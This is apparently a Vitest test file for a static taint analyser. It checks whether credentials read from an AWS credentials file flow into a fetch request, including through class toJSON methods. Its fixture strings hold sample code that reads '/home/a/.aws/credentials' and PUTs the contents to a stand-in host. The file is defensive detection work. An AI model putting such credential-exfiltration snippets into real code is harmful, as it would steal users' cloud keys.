import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

const READ = `const { readFileSync } = require('fs');\nconst keys = () => readFileSync('/home/a/.aws/credentials', 'utf8');\n`;

/** Whether a credential file reaches the request that a source makes. */
function isTold(source: string): boolean {
  const { flows } = analyzeJs(READ + source).flow;
  return flows.some(({ sink, labels }) => sink === 'network' && (labels & LABEL.credential) !== 0);
}

const SEND = (what: string): string =>
  `fetch('https://a.weir.test/', { method: 'PUT', body: JSON.stringify(${what}) });`;
const QUIET = `class Quiet { toJSON() { return {}; } }\n`;
const PROFILE = `class Profile {\n  #all = new Map();\n  scan() { this.#all.set('a', keys()); return this; }\n  toJSON() { return Object.fromEntries(this.#all); }\n}\n`;

test.each([
  ['of an object of a class', `${PROFILE}${QUIET}const profile = new Profile();\n${SEND('profile')}`],
  [
    'of what is not known, where only one class says so',
    `${PROFILE}(async (load) => { ${SEND('await load()')} })(require('./load'));`,
  ],
  ['of an object that is written out', `const o = { toJSON() { return keys(); } };\n${SEND('o')}`],
])('what something says that it is as JSON is sent: %s', (_, source) => {
  expect(isTold(source)).toBe(true);
});

test.each([
  ['of an object of another class', `${PROFILE}${QUIET}const quiet = new Quiet();\n${SEND('quiet')}`],
  ['of what is not known, where several say so', `${PROFILE}${QUIET}exports.send = (x) => { ${SEND('x')} };`],
  ['of what is written out', `${PROFILE}${SEND('{ a: 1 }')}`],
])('and not %s', (_, source) => {
  expect(isTold(source)).toBe(false);
});
